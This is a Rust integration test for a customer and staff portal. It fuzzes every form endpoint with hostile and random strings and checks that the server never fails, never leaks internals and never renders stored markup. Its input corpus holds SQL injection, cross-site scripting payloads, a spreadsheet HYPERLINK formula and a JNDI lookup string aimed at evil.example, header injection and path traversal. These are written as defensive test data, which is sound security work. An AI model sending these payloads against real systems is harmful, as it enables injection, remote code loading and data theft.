//! Bad input, generated, over real HTTP on both backends: every writing server function of
//! customers and staff gets values from a corpus of hostile strings (SQL, HTML, CSV formulas,
//! mail headers, control characters, bidirectional overrides, huge and empty values) and
//! random ones from a seeded generator (`BAD_INPUT_CASES` per function, `BAD_INPUT_SEED`), as a
//! plain form post and as a script call; plus bodies that are oversized, not UTF-8, not form
//! encoded, or repeat a field. Properties: no answer is a 5xx; no answer carries database,
//! parser or panic text; the server keeps serving; and the pages that show stored values never
//! carry the markup as markup.

mod support;

use domain::on_both_backends;
use domain::staff::Role;
use domain::testing::*;
use domain::Portal;
use support::*;

on_both_backends!(generated_hostile_input_is_refused_or_stored_as_text_never_a_failure);

const HOSTILE: &[&str] = &[
    "",
    " ",
    "'; DROP TABLE customers; --",
    "\" OR \"1\"=\"1",
    "1 OR 1=1",
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "a@example.test\r\nBcc: victim@example.test",
    "Name\nSubject: hi",
    "line\u{0}null",
    "\u{202e}txt.exe",
    "\u{feff}bom",
    "e\u{301}\u{301}\u{301}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "%00%0d%0a",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "-1",
    "99999999999999999999999999",
    "1e308",
    "NaN",
];

use support::Gen;

impl Gen {
    /// A value: a corpus entry, a mutation of one, or random characters from every plane.
    fn value(&mut self) -> String {
        match self.below(4) {
            0 => HOSTILE[self.below(HOSTILE.len() as u64) as usize].to_string(),
            1 => {
                let base = HOSTILE[self.below(HOSTILE.len() as u64) as usize];
                base.repeat(1 + self.below(200) as usize)
            }
            2 => "x".repeat([0, 1, 255, 256, 2_000, 2_001, 20_000][self.below(7) as usize]),
            _ => {
                let len = self.below(300);
                (0..len)
                    .map(|_| {
                        let c = match self.below(5) {
                            0 => self.below(0x20) as u32,
                            1 => 0x20 + self.below(0x5f) as u32,
                            2 => 0xa0 + self.below(0x700) as u32,
                            3 => 0x2000 + self.below(0x70) as u32,
                            _ => 0x1f300 + self.below(0x300) as u32,
                        };
                        char::from_u32(c).unwrap_or('?')
                    })
                    .collect()
            }
        }
    }
}

/// Text that would only be in an answer if something broke underneath.
fn leaks(body: &str) -> Option<&'static str> {
    let lower = body.to_lowercase();
    ["sqlx", "sqlite", "postgres", "syntax error", "panicked", "deserial", "stack backtrace", "constraint failed", "violates"]
        .into_iter()
        .find(|w| lower.contains(w))
}

async fn check(res: reqwest::Response, what: &str) {
    let status = res.status();
    let body = res.text().await.unwrap_or_default();
    assert!(status.as_u16() < 500, "{what}: {status}: {}", body.chars().take(300).collect::<String>());
    if let Some(word) = leaks(&body) {
        panic!("{what}: the answer mentions {word:?}: {}", body.chars().take(300).collect::<String>());
    }
}

async fn generated_hostile_input_is_refused_or_stored_as_text_never_a_failure(portal: Portal) {
    let cases: usize = std::env::var("BAD_INPUT_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(12);
    let (customer, _, _) = enrolled(&portal, "a@example.test").await;
    let id = customer_id(&portal, "a@example.test").await;
    let request = domain::requests::submit(&portal, id, "orders", "Order 1042 is not mine; please check it.", &meta()).await.unwrap();
    let (agent, _, _) = staff_signed_in(&portal, "agent@example.test", Role::Agent).await;
    let (dpo, _, _) = staff_signed_in(&portal, "dpo@example.test", Role::Dpo).await;
    let (address,): (i64,) =
        sqlx::query_as("SELECT MIN(id) FROM addresses WHERE customer_id = $1").bind(id).fetch_one(portal.store.pool()).await.unwrap();
    let (reference,): (String,) =
        sqlx::query_as("SELECT public_id FROM customers WHERE id = $1").bind(id).fetch_one(portal.store.pool()).await.unwrap();
    let app = TestApp::start(portal).await;
    let (request, address) = (request.to_string(), address.to_string());
    let customer_cookie = format!("custodia_session={customer}");
    let agent_cookie = format!("custodia_staff={agent}");
    let dpo_cookie = format!("custodia_staff={dpo}");

    // (endpoint, who, fields); a field whose value is None is generated.
    type Fields<'a> = Vec<(&'a str, Option<&'a str>)>;
    let functions: Vec<(&str, Option<&str>, Fields)> = vec![
        ("sign_in", None, vec![("email", None), ("password", None)]),
        ("verify_code", None, vec![("code", None)]),
        ("request_change", Some(customer_cookie.as_str()), vec![("field", Some("full_name")), ("value", None)]),
        ("request_change", Some(customer_cookie.as_str()), vec![("field", Some("phone")), ("value", None)]),
        ("request_change", Some(customer_cookie.as_str()), vec![("field", Some("email")), ("value", None)]),
        ("request_change", Some(customer_cookie.as_str()), vec![("field", None), ("value", None)]),
        ("request_address_change", Some(customer_cookie.as_str()), vec![("address_id", Some(&address)), ("label", None), ("line1", None),
            ("line2", None), ("city", None), ("postal_code", None), ("region", None), ("country", None)]),
        ("submit_request", Some(customer_cookie.as_str()), vec![("subject", Some("orders")), ("explanation", None)]),
        ("submit_request", Some(customer_cookie.as_str()), vec![("subject", None), ("explanation", None)]),
        ("reply_request", Some(customer_cookie.as_str()), vec![("id", Some(&request)), ("message", None)]),
        ("rate_request", Some(customer_cookie.as_str()), vec![("id", None), ("rating", None), ("comment", None)]),
        ("set_consent", Some(customer_cookie.as_str()), vec![("purpose", None), ("choice", None)]),
        ("end_session", Some(customer_cookie.as_str()), vec![("handle", None)]),
        ("request_export", Some(customer_cookie.as_str()), vec![("code", None)]),
        ("change_password", Some(customer_cookie.as_str()), vec![("current_password", None), ("new_password", None), ("code", None)]),
        ("my_data", Some(customer_cookie.as_str()), vec![("activity_page", None)]),
        ("staff_find_customer", Some(agent_cookie.as_str()), vec![("query", None)]),
        ("staff_reveal", Some(agent_cookie.as_str()), vec![("reference", Some(&reference)), ("field", None), ("reason", None)]),
        ("staff_reply", Some(agent_cookie.as_str()), vec![("id", Some(&request)), ("status", None), ("message", None)]),
        ("staff_extend", Some(agent_cookie.as_str()), vec![("id", Some(&request)), ("months", None), ("reason", None)]),
        ("staff_record_incident", Some(dpo_cookie.as_str()), vec![("discovered_at", None), ("what_happened", None), ("categories[]", None),
            ("approx_affected", None), ("consequences", None), ("measures", None)]),
    ];

    let mut values_from = Gen::from_env("BAD_INPUT_SEED", 0x5eed_c0de);
    let seed = values_from.0;
    let mut sent = 0;
    for (endpoint, cookie, fields) in &functions {
        for case in 0..cases {
            let values: Vec<(String, String)> =
                fields.iter().map(|(name, fixed)| (name.to_string(), fixed.map(String::from).unwrap_or_else(|| values_from.value()))).collect();
            let form: Vec<(&str, &str)> = values.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let html = case % 2 == 0;
            let what = format!("{endpoint} case {case} (seed {seed:#x}, {})", if html { "form post" } else { "script call" });
            check(app.send(endpoint, *cookie, &form, html).await, &what).await;
            sent += 1;
        }
    }

    // Bodies no browser sends: oversized, not UTF-8, not form-encoded, a field repeated.
    let raw = |body: Vec<u8>, content_type: &str| {
        app.raw()
            .post(app.url("/api/request_change"))
            .header("origin", app.origin())
            .header("accept", "text/html")
            .header("content-type", content_type.to_string())
            .header("cookie", customer_cookie.clone())
            // A fresh connection each: after refusing the oversized body the server closes its
            // connection, and a pooled one reused at that moment fails to send (seen in CI).
            .header("connection", "close")
            .body(body)
    };
    let huge = format!("field=full_name&value={}", "A".repeat(8 * 1024 * 1024)).into_bytes();
    let bodies: Vec<(&str, Vec<u8>, &str)> = vec![
        ("8 MiB body", huge, "application/x-www-form-urlencoded"),
        ("invalid UTF-8", b"field=full_name&value=%FF%FE%FD".to_vec(), "application/x-www-form-urlencoded"),
        ("raw invalid UTF-8", vec![b'f', b'=', 0xff, 0xfe, b'&', b'v', b'=', 0xc3], "application/x-www-form-urlencoded"),
        ("JSON body", br#"{"field":"full_name","value":"<script>"}"#.to_vec(), "application/json"),
        ("multipart without boundary", b"--x\r\n".to_vec(), "multipart/form-data"),
        ("repeated field", b"field=full_name&field=phone&value=a&value=b".to_vec(), "application/x-www-form-urlencoded"),
        ("no body", Vec::new(), "application/x-www-form-urlencoded"),
    ];
    for (what, body, content_type) in bodies {
        match raw(body, content_type).send().await {
            Ok(res) => check(res, what).await,
            // Refusing an oversized body by closing the connection is a refusal too.
            Err(e) => assert!(what == "8 MiB body", "{what}: {e}"),
        }
        sent += 1;
    }

    // Still serving, and whatever was stored shows as text, never as markup.
    assert_eq!(app.page("/healthz", None).await.status(), 200);
    let my_pages = vec!["/my-data".to_string(), "/sessions".into(), "/consent".into(), format!("/requests/{request}")];
    for path in &my_pages {
        let body = app.page(path, Some(&customer)).await.text().await.unwrap();
        for markup in ["<script>alert", "<img src=x", "<svg onload"] {
            assert!(!body.contains(markup), "{path} carries {markup:?} as markup");
        }
    }
    for path in [format!("/staff/requests/{request}"), format!("/staff/customers/{reference}"), "/staff".to_string()] {
        let body = app.staff_page(&path, &agent).await.text().await.unwrap();
        for markup in ["<script>alert", "<img src=x", "<svg onload"] {
            assert!(!body.contains(markup), "{path} carries {markup:?} as markup");
        }
    }
    eprintln!("{sent} hostile requests, none failed (seed {seed:#x}, {cases} per function)");
}
